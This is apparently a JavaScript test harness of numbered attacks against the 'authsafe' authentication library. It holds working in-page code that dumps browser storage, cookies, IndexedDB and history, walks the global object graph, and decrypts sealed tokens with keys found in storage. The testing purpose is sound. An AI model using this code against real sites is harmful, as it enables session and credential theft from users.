// The attacks that look around once: what is stored, what can be reached, what the browser remembers.

const reads = {
  async "T1 storage dump"(attack) {
    report(attack, { ...localStorage });
    report(attack, { ...sessionStorage });
    report(attack, document.cookie.split("; "));
    // A value that was split over several.
    report(attack, document.cookie.replaceAll(/(?:^|; )[^=]+=/g, ""));
    if (globalThis.cookieStore) report(attack, await cookieStore.getAll());
    report(attack, [window.name, history.state, location.href]);
    for (const [, records] of await databases()) report(attack, records);
    for (const name of await caches.keys()) {
      const cache = await caches.open(name);
      for (const request of await cache.keys()) report(attack, await cache.match(request));
    }
  },

  async "T2 object walk"(attack) {
    const seen = new RealSet();
    const todo = [globalThis];
    const found = [];
    for (let nodes = 0; todo.length && nodes < 100_000; nodes++) {
      const value = todo.pop();
      if (typeof value === "string") {
        if (value.length > 16) found.push(value);
        continue;
      }
      if (Object(value) !== value || seen.has(value) || value === document) continue;
      seen.add(value);
      if (typeof value === "function" && !/\[native code\]/.test(Function.prototype.toString.call(value))) {
        found.push(Function.prototype.toString.call(value).slice(0, 20_000));
      }
      if (value instanceof Map || value instanceof Set) for (const one of value.entries?.() ?? []) todo.push(...one);
      if (isView(value) && value.length < 100_000) report(attack, value);
      try {
        const proto = getPrototypeOf(value);
        if (proto) todo.push(proto);
        for (const name of ownKeys(value)) {
          const descriptor = getOwnPropertyDescriptor(value, name);
          if (!descriptor) continue;
          if ("value" in descriptor) todo.push(descriptor.value);
          else if (value !== globalThis && !Object.hasOwn(globalThis, proto?.constructor?.name ?? ""))
            todo.push(value[name]);
          todo.push(descriptor.get, descriptor.set);
        }
      } catch {
        // A getter that throws, or an object of another origin.
      }
    }
    report(attack, found.join("\n"));
  },

  async "T4 IndexedDB key oracle"(attack) {
    for (const plain of await openedRecords((key) => report(attack, key))) report(attack, plain);
  },

  async "T24 browser's memory of the visit"(attack) {
    report(
      attack,
      performance.getEntries().map(({ name }) => name),
    );
    report(attack, [document.referrer, location.href, history.state]);
    if (globalThis.navigation)
      report(
        attack,
        navigation.entries().map(({ url }) => url),
      );
  },
};

/** Every record of every database: `[database, [[key, value]]]`. */
async function databases() {
  const all = [];
  for (const { name } of await indexedDB.databases()) {
    const database = await settled(indexedDB.open(name));
    const records = [];
    for (const store of database.objectStoreNames) {
      const held = database.transaction(store).objectStore(store);
      const [keys, values] = [await settled(held.getAllKeys()), await settled(held.getAll())];
      keys.forEach((key, at) => records.push([String(key), values[at]]));
    }
    database.close();
    all.push([name, records]);
  }
  return all;
}

function settled(request) {
  return new Promise((resolve, reject) => {
    request.onsuccess = () => resolve(request.result);
    request.onerror = () => reject(request.error);
    request.onblocked = () => reject(new Error("blocked"));
  });
}

/** Whatever the keys in the databases of this origin open, of all that is stored anywhere. */
async function openedRecords(tell = () => {}) {
  const keys = [];
  const boxes = [];
  const texts = [];
  const collect = (value, name) => {
    if (value instanceof RealKey) keys.push(value);
    else if (value instanceof ArrayBuffer || isView(value)) boxes.push(value);
    else if (typeof value === "string") texts.push([value, name]);
    else if (value && typeof value === "object") for (const one of Object.values(value)) collect(one, name);
  };
  for (const [, records] of await databases()) for (const [key, value] of records) collect(value, key);
  for (const area of [localStorage, sessionStorage])
    for (const [key, value] of Object.entries(area)) collect(value, key);
  for (const [name, text] of cookieTexts()) collect(text, name);
  const clear = [];
  for (const key of keys) {
    tell(key);
    clear.push(...(await openTexts(key, texts)), ...(await openBoxes(key, boxes)));
    const out = await crypto.subtle.exportKey("jwk", key).catch(() => undefined);
    if (out) clear.push(new TextEncoder().encode(stringify(out)));
  }
  return clear;
}

/** Cookies by name; those that are parts of one text, together. */
function cookieTexts() {
  const all = new Map();
  for (const pair of document.cookie.split("; ")) {
    const name = pair.split("=")[0];
    const value = decodeURIComponent(pair.slice(name.length + 1));
    const whole = name.replace(/[.-]?\d+$/, "");
    for (const one of new RealSet([name, whole])) all.set(one, (all.get(one) ?? "") + value);
  }
  return all;
}

/** Sealed texts of authsafe: how they are bound to their place is no secret, as it is written in the source. */
async function openTexts(key, texts) {
  const clear = [];
  // Where the client has not run yet, its options are in the application's source.
  const { oidc, firstParty } = (app() ?? globalThis.victim).options;
  const login = firstParty?.endpoints?.login;
  const servers = [
    `${oidc ? `${oidc.issuer}\n${oidc.clientId}` : ""}\n${login ? new URL(login.url ?? login, firstParty.baseUrl).href : ""}`,
    "",
  ];
  for (const [text, name] of texts) {
    const { kid, n, iv, ct } = Object(await within(100, () => JSON.parse(text)));
    if (!ct) continue;
    for (const server of servers) {
      for (const record of [name, name.split("/").at(-1)]) {
        const parts = ["authsafe sealed 2", origin, server, record, kid, String(n)];
        const bound = parts.map((part) => `${new TextEncoder().encode(part).length}:${part}`).join("");
        const algorithm = { name: "AES-GCM", iv: fromBase64(iv), additionalData: new TextEncoder().encode(bound) };
        await decrypt(algorithm, key, fromBase64(ct), clear);
      }
    }
  }
  return clear;
}

/** AES-GCM as it is mostly laid out: the initialization vector before the ciphertext, or in a field of its own. */
async function openBoxes(key, boxes) {
  const clear = [];
  const all = boxes.map((box) => new Bytes(box.buffer ?? box, box.byteOffset ?? 0, box.byteLength));
  for (const bytes of all) {
    for (const iv of all.filter(({ length }) => length === 12))
      await decrypt({ name: "AES-GCM", iv }, key, bytes, clear);
    for (const at of [0, 1, 2, 4, 5, 8]) {
      await decrypt({ name: "AES-GCM", iv: bytes.slice(at, at + 12) }, key, bytes.slice(at + 12), clear);
    }
  }
  return clear;
}

function decrypt(algorithm, key, bytes, clear) {
  return crypto.subtle.decrypt(algorithm, key, bytes).then(
    (plain) => clear.push(plain),
    () => {},
  );
}

function fromBase64(text) {
  try {
    return Uint8Array.from(atob(text.replaceAll("-", "+").replaceAll("_", "/")), (char) => char.charCodeAt(0));
  } catch {
    return new Uint8Array();
  }
}
